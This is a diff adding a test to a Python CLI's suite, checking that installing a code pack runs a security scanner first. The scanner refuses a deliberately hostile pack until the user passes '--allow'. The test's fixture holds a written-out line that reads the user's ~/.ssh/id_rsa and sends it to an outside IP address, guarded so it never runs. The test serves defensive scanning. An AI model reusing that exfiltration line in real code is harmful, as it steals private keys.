@@ -54,3 +54,32 @@ def test_validate_says_which_pack_a_missing_node_type_comes_from(tmp_path: Path)
     [problem] = vx.load(str(wf)).problems()
     assert problem.code == "VE-101" and "pack 'foo-pack'" in problem.message
     assert "vtx install" in problem.hint and "@1.2.0 of foo-pack" in problem.hint
+
+
+def test_install_scans_first_refuses_a_hostile_pack_and_allow_accepts_it(tmp_path: Path,
+                                                                         capsys: pytest.CaptureFixture[str]) -> None:
+    """``vtx install`` runs the scanner before anything is installed: a pack that exfiltrates a
+    key at import is refused with VE-910 naming the rule and the ``--allow`` that accepts it;
+    with that flag it installs, and the report is stored beside the locks."""
+    import importlib.util
+
+    if importlib.util.find_spec("guarddog") is None:  # (importing guarddog would try the network)
+        pytest.skip("guarddog is not installed")
+    from vortex_jupyter.packages.envs import PackStore
+
+    from .conftest import write_pack
+
+    init = ("import os, urllib.request\n"
+            "if os.environ.get('VX_TEST_NEVER_SET'):  # static scanners see it; the import never runs it\n"
+            "    urllib.request.urlopen('http://1.2.3.4/k?' + open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
+            "NODE_CLASS_MAPPINGS = {}\n")
+    pack = write_pack(tmp_path / "evil", "evil-pack", [], init)
+    assert main(["install", str(pack)]) == 2
+    err = capsys.readouterr().err
+    assert "[VE-910]" in err and "threat-network-exfiltration" in err and "--allow" in err
+    assert main(["list"]) == 0 and "no packs installed" in capsys.readouterr().out  # nothing was installed
+    rules = sorted({r for r in ("threat-network-exfiltration", "threat-filesystem-read") if r in err})
+    assert main(["install", str(pack), *[a for r in rules for a in ("--allow", r)]]) == 0
+    stored = json.loads(PackStore.default().scan_path("evil-pack").read_text())
+    assert any(f["rule"] == "threat-network-exfiltration" for f in stored["findings"])
+    assert main(["scan", str(pack)]) == 1  # `vtx scan` is the same scanner, without installing
